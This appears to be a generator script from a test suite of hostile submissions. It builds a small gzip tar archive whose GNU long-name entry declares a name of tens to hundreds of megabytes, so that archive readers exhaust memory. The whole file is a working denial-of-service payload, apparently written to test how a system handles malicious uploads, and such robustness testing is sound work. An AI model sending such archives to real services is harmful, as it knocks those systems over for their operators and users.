# attack: >-
#   A tar.gz of 1 MB in which one entry's name has 900 MB: the library holds it in memory, several times over.
# mark: 0
# naive: none
# kind: generator

import gzip
import tarfile
from pathlib import Path

MB = 20  # up to 1,000 can be read


def submission(folder: Path, tokens: dict[str, str]) -> None:
    size = MB * 2**20
    long = tarfile.TarInfo("././@LongLink")
    long.type, long.size = tarfile.GNUTYPE_LONGNAME, size
    entry = tarfile.TarInfo("work.py")
    entry.size = 4
    with gzip.open(folder / "work.tar.gz", "wb", compresslevel=6) as packed:
        packed.write(long.tobuf(tarfile.GNU_FORMAT))
        for _ in range(MB):
            packed.write(b"a" * 2**20)
        packed.write(entry.tobuf(tarfile.GNU_FORMAT))
        packed.write(b"x=1\n" + bytes(508))
        packed.write(bytes(1024))
